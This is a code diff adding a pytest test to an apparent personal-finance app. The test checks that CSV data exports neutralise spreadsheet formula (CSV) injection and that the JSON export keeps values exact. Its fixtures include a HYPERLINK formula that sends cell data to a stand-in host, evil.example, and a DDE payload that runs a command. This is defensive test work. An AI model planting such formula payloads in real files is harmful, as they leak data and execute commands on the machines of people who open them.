@@ -5,7 +5,8 @@ from __future__ import annotations
 import csv
 import hashlib
 import io
-from datetime import timedelta
+from datetime import date, timedelta
+from decimal import Decimal
 from urllib.parse import urlparse
 
 import pytest
@@ -15,9 +16,11 @@ from rest_framework.test import APIClient
 from conftest import auth_client
 from finance.audit.models import AuditAction, AuditEvent
 from finance.households.models import Membership, Role
+from finance.ledger import services as ledger
+from finance.ledger.inputs import TransactionInput
 from finance.privacy import archive
 from finance.privacy.models import DataExport, ExportStatus
-from finance.privacy.services import export_request
+from finance.privacy.services import export_data, export_request
 from finance.privacy.tasks import purge_expired_exports
 from finance.privacy.tests.data import load, populate, unzip
 from finance.users.tests.factories import HouseholdFactory, UserFactory
@@ -161,3 +164,41 @@ def test_exports_are_private_and_one_at_a_time(clock, user, household):
     # One that never finished (its worker died) stops blocking after an hour.
     clock.shift(3601)
     assert auth_client(user).post("/api/v1/privacy/export/").status_code == 202
+
+
+def test_csv_files_neutralise_formulas_while_the_json_keeps_the_exact_text(user, household):
+    """Text a spreadsheet would run (CSV injection) starts with an apostrophe in the CSVs; JSON is exact."""
+    hyperlink = '=HYPERLINK("https://evil.example/?d="&A1, "Refund")'
+    dde = "=cmd|' /C calc'!A0"
+    account = ledger.account_create(
+        household=household, actor=user, name="@SUM(1+1)", opening_balance=Decimal("-250.00")
+    )
+    ledger.transaction_create(
+        household=household,
+        actor=user,
+        data=TransactionInput(
+            account=account,
+            type="expense",
+            amount=Decimal("12.50"),
+            date=date(2026, 3, 1),
+            payee=hyperlink,
+            description=dde,
+            notes="-2+3",
+            tags=["+1+1"],
+        ),
+    )
+    buffer = io.BytesIO()
+    archive.write_archive(buffer, data=export_data(user=user), user=user, created_at=timezone.now())
+    files = unzip(buffer.getvalue())
+
+    transactions = list(csv.DictReader(io.StringIO(files["csv/transactions.csv"].decode())))
+    (row,) = [t for t in transactions if t["amount"] == "12.5000000000"]
+    assert (row["payee"], row["description"], row["notes"]) == ("'" + hyperlink, "'" + dde, "'-2+3")
+    accounts = {a["name"]: a for a in csv.DictReader(io.StringIO(files["csv/accounts.csv"].decode()))}
+    assert accounts["'@SUM(1+1)"]["opening_balance"] == "-250.0000000000"  # a number stays a number
+    assert [t["name"] for t in csv.DictReader(io.StringIO(files["csv/tags.csv"].decode()))] == ["'+1+1"]
+
+    (exact,) = [t for t in load(files, "transactions") if t["payee"] == hyperlink]
+    assert (exact["description"], exact["notes"]) == (dde, "-2+3")
+    assert [a["name"] for a in load(files, "accounts")] == ["@SUM(1+1)"]
+    assert [t["name"] for t in load(files, "tags")] == ["+1+1"]
